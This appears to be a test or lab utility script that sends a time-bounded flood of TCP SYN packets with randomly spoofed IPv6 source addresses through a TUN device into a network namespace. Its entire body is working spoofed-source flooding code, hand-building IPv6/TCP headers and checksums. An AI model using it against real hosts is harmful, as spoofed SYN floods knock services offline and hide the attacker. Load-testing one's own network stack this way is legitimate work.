#!/usr/bin/env python3
"""Flood an IPv6 address with TCP SYNs from random sources of a /64.

Written into the TUN with an AF_PACKET socket (the kernel hands the bytes
to the device as they are), so the stack sees SYNs from addresses nobody
owns; its SYN-ACKs go back into the TUN, to the namespace's kernel, which
does not forward and drops them. Bounded by SECS; prints how many it sent.

usage: syn_flood6.py IFNAME PREFIX DST PORT SECS
       (PREFIX: the /64 the sources are drawn from, e.g. fd00::)
"""
import os
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    ifname, prefix, dst_s, port, secs = sys.argv[1:6]
    dst = socket.inet_pton(socket.AF_INET6, dst_s)
    pre = socket.inet_pton(socket.AF_INET6, prefix)[:8]
    port, secs = int(port), float(secs)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86DD))
    s.bind((ifname, 0x86DD))
    sent, end = 0, time.monotonic() + secs
    while time.monotonic() < end:
        src = pre + os.urandom(8)
        tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), port,
                          random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
        pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
        try:
            s.sendto(ip6 + tcp, (ifname, 0x86DD))
            sent += 1
        except OSError:  # the TUN's queue is full: let the stack catch up
            time.sleep(0.0005)
    print(f"sent {sent}")


if __name__ == "__main__":
    main()
